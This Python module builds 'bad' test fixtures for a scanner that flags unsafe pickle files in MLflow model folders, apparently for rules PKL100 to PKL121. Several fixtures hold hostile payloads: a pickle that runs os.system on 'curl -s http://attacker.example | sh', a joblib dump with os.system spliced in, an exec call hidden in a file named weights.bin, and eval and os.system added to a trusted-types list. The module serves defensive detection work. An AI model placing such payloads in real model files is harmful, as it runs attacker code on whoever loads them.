"""Build the `bad/` folders of the PKL rules from real MLflow model folders plus pickles made
of raw opcodes. Nothing dangerous is ever pickled, and nothing is ever loaded.

Run `python -m tests.rules.pkl_fixtures` to regenerate; `test_pickle_rules.py` checks that the
checked-in files are exactly what this module builds.
"""

from __future__ import annotations

import io
import shutil
import sys
import zlib
from collections.abc import Callable
from pathlib import Path

RULES = Path(__file__).resolve().parent
TESTS = RULES.parent
sys.path.insert(0, str(TESTS / "pickles"))

from rawpickle import MEMOIZE, STOP, binget, call1, glob, proto, stack_global, u  # noqa: E402

SK_PICKLE = RULES / "pkl_base" / "sklearn_pickle"  # real MLflow 3.17.2, serialization "pickle"
SK_SKOPS = TESTS / "data" / "mlflow" / "3.17.2" / "models" / "sklearn_default"
PYFUNC = TESTS / "data" / "mlflow" / "3.17.2" / "models" / "pyfunc_params"
LFS = (b"version https://git-lfs.github.com/spec/v1\n"
       b"oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\n"
       b"size 1392\n")


def obj(module: str, name: str) -> bytes:
    """`module.name()` via STACK_GLOBAL + EMPTY_TUPLE + NEWOBJ: an instance of that class."""
    return stack_global(module, name) + MEMOIZE + b")\x81"


def system_call(cmd: str) -> bytes:
    return proto(4) + call1(stack_global("os", "system"), u(cmd)) + STOP


def copy(source: Path, dest: Path) -> Path:
    shutil.copytree(source, dest)
    return dest


def joblib_payload_after_buffer() -> bytes:
    """A real joblib dump of [array, marker]; the marker after the raw array is swapped for
    the global os.system (same stack effect), then zlib-compressed as joblib does."""
    import joblib
    import numpy as np

    buf = io.BytesIO()
    marker = "PAYLOAD_MARKER_0123"
    joblib.dump([np.arange(512, dtype="float64"), marker], buf, compress=0)
    data = buf.getvalue()
    assert data.count(u(marker)) == 1
    return zlib.compress(data.replace(u(marker), glob("os", "system")), 3)


def pkl100(bad: Path) -> None:
    copy(SK_PICKLE, bad / "model")
    (bad / "model" / "model.pkl").write_bytes(system_call("curl -s http://attacker.example | sh"))
    copy(SK_PICKLE, bad / "joblib_zlib")
    (bad / "joblib_zlib" / "model.pkl").write_bytes(joblib_payload_after_buffer())
    # A pickle renamed to look like raw weights, not referenced by MLmodel: found by content.
    copy(SK_PICKLE, bad / "renamed")
    (bad / "renamed" / "weights.bin").write_bytes(
        proto(2) + glob("builtins", "exec") + u("import os") + b"\x85R" + STOP)


def pkl101(bad: Path) -> None:
    copy(SK_PICKLE, bad / "model")
    code = proto(4) + stack_global("types", "CodeType") + MEMOIZE + b")R" + b"0" + \
        stack_global("cloudpickle.cloudpickle", "_make_function") + b")R" + STOP
    (bad / "model" / "model.pkl").write_bytes(code)


def pkl102(bad: Path) -> None:
    copy(PYFUNC, bad / "model")  # the real python_model.pkl written by MLflow 3.17.2


def pkl103(bad: Path) -> None:
    copy(SK_PICKLE, bad / "model")
    data = proto(4) + b"]" + MEMOIZE + b"(" + obj("mypkg.transformers", "DateParser") + \
        obj("mypkg.transformers", "Scaler") + obj("__main__", "Wrapper") + b"e" + STOP
    (bad / "model" / "model.pkl").write_bytes(data)


def pkl104(bad: Path) -> None:
    real = (SK_PICKLE / "model.pkl").read_bytes()
    copy(SK_PICKLE, bad / "truncated")
    (bad / "truncated" / "model.pkl").write_bytes(real[: len(real) // 2])
    copy(SK_PICKLE, bad / "not_a_pickle")
    (bad / "not_a_pickle" / "model.pkl").write_bytes(b"<html>Access denied</html>\n")


def pkl105(bad: Path) -> None:
    copy(SK_PICKLE, bad / "model")
    (bad / "model" / "preprocessor.pkl").write_bytes(LFS)  # not referenced: PKL105
    copy(SK_PICKLE, bad / "referenced")
    (bad / "referenced" / "model.pkl").write_bytes(LFS)  # referenced: MLM102's, not PKL105's


def pkl106(bad: Path) -> None:
    real = (SK_PICKLE / "model.pkl").read_bytes()
    copy(SK_PICKLE, bad / "trailing")
    (bad / "trailing" / "model.pkl").write_bytes(real + b"\x00\x01garbage after STOP")
    copy(SK_PICKLE, bad / "memo")
    (bad / "memo" / "model.pkl").write_bytes(proto(4) + b"]" + MEMOIZE + binget(7) + b"a" + STOP)


def pkl110(bad: Path) -> None:
    copy(SK_SKOPS, bad / "model")
    mlmodel = bad / "model" / "MLmodel"
    text = mlmodel.read_text()
    assert "    skops_trusted_types: null\n" in text
    mlmodel.write_text(text.replace(
        "    skops_trusted_types: null\n",
        "    skops_trusted_types:\n    - sklearn.linear_model._logistic.LogisticRegression\n"
        "    - builtins.eval\n    - os.system\n"))


def pkl120(bad: Path) -> None:
    copy(SK_PICKLE, bad / "model")
    data = proto(4) + obj("xgboost.sklearn", "XGBClassifier") + STOP
    (bad / "model" / "model.pkl").write_bytes(data)


def pkl121(bad: Path) -> None:
    copy(SK_PICKLE, bad / "model")
    real = (SK_PICKLE / "model.pkl").read_bytes()
    needle = u("_sklearn_version") + MEMOIZE + u("1.9.1")
    assert real.count(needle) == 1
    (bad / "model" / "model.pkl").write_bytes(real.replace(needle, needle[:-5] + b"1.6.1"))


BUILDERS: dict[str, Callable[[Path], None]] = {
    "PKL100": pkl100, "PKL101": pkl101, "PKL102": pkl102, "PKL103": pkl103, "PKL104": pkl104,
    "PKL105": pkl105, "PKL106": pkl106, "PKL110": pkl110, "PKL120": pkl120, "PKL121": pkl121,
}


def build(code: str, bad: Path) -> None:
    bad.mkdir(parents=True)
    BUILDERS[code](bad)


def main() -> None:
    for code in BUILDERS:
        bad = RULES / code / "bad"
        if bad.exists():
            shutil.rmtree(bad)
        build(code, bad)


if __name__ == "__main__":
    main()
